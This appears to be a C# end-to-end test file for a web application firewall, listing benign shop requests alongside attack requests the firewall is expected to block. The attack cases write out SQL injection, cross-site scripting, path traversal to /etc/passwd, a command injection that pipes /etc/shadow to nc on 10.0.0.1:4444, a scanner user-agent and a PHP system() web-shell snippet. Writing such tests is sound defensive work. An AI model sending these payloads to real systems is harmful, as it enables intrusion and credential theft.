using System.Net.Http.Headers;
using System.Net.Mime;
using System.Text;

namespace WafOperator.E2e.Shop.Trial;

/// <summary>What a request is meant to be.</summary>
internal enum TrialKind { Benign, Attack }

/// <summary>One request of the demo: a title for people, and how to send it.</summary>
internal sealed record TrialCase(TrialKind Kind, string Title, Func<TrialClient, CancellationToken, Task<TrialAnswer>> Send)
{
    /// <summary>Customers first, then attackers.</summary>
    public static IReadOnlyList<TrialCase> All { get; } =
    [
        Get(TrialKind.Benign, "/", "home page"),
        Get(TrialKind.Benign, "/search?q=green+tea", "search"),
        Get(TrialKind.Benign, "/search?q=O%27Brien%27s%20breakfast%20blend", "search with an apostrophe"),
        Get(TrialKind.Benign, "/api/products/3", "JSON API"),
        Json(TrialKind.Benign, "order", """{"productId":4,"quantity":2,"note":"please select a nice box & drop it at the door"}"""),
        Form(TrialKind.Benign, "contact form", "Ana", "Where do the leaves come from? I like 1 or 2 kinds."),
        new(TrialKind.Benign, "POST /upload (200 KB file)", (client, cancellation) => client.UploadAsync("leaves.bin", Noise(200 << 10), cancellation)),
        new(TrialKind.Benign, "GET /events (server-sent events)", (client, cancellation) => client.EventsAsync("/events?count=3&intervalMilliseconds=50", 3, cancellation)),
        new(TrialKind.Benign, "GET /ws (WebSocket echo)", (client, cancellation) => client.WebSocketAsync("/ws", "hello tea", cancellation)),

        Get(TrialKind.Attack, "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20", "SQL injection, query"),
        Get(TrialKind.Attack, "/search?q=tea%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20-", "SQL injection, UNION"),
        Json(TrialKind.Attack, "SQL injection, JSON", """{"productId":1,"quantity":1,"note":"x'; DROP TABLE orders; SELECT pg_sleep(10)--"}"""),
        Get(TrialKind.Attack, "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "cross-site scripting, query"),
        Form(TrialKind.Attack, "cross-site scripting, form", "x", "<img src=x onerror=alert(1)>"),
        Get(TrialKind.Attack, "/api/products?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "path traversal"),
        Get(TrialKind.Attack, "/search?q=tea%3Bcat%20%2Fetc%2Fshadow%7Cnc%2010.0.0.1%204444", "command injection"),
        Header("/", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner"),
        Form(TrialKind.Attack, "PHP injection, form", "x", "<?php system($_GET['c']); ?>"),
    ];

    private static TrialCase Get(TrialKind kind, string target, string what) =>
        new(kind, $"GET {Shorten(target)} ({what})", (client, cancellation) =>
            client.SendAsync(new HttpRequestMessage(HttpMethod.Get, target), cancellation));

    private static TrialCase Header(string target, string name, string value, string what) =>
        new(TrialKind.Attack, $"GET {target} {name}: {Shorten(value)} ({what})", (client, cancellation) =>
        {
            var request = new HttpRequestMessage(HttpMethod.Get, target);
            request.Headers.Remove(name);
            request.Headers.TryAddWithoutValidation(name, value);
            return client.SendAsync(request, cancellation);
        });

    private static TrialCase Json(TrialKind kind, string what, string body) =>
        new(kind, $"POST /api/orders ({what})", (client, cancellation) => client.SendAsync(
            new HttpRequestMessage(HttpMethod.Post, "/api/orders")
            {
                Content = new StringContent(body, Encoding.UTF8, new MediaTypeHeaderValue(MediaTypeNames.Application.Json)),
            }, cancellation));

    private static TrialCase Form(TrialKind kind, string what, string name, string message) =>
        new(kind, $"POST /contact ({what})", (client, cancellation) => client.SendAsync(
            new HttpRequestMessage(HttpMethod.Post, "/contact")
            {
                Content = new FormUrlEncodedContent([new("name", name), new("message", message)]),
            }, cancellation));

    private static string Shorten(string text)
    {
        var readable = Uri.UnescapeDataString(text.Replace('+', ' '));
        return readable.Length <= 48 ? readable : readable[..47] + "…";
    }

    /// <summary>The same bytes every time, and nothing that looks like text.</summary>
    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        new Random(7).NextBytes(bytes);
        return bytes;
    }
}
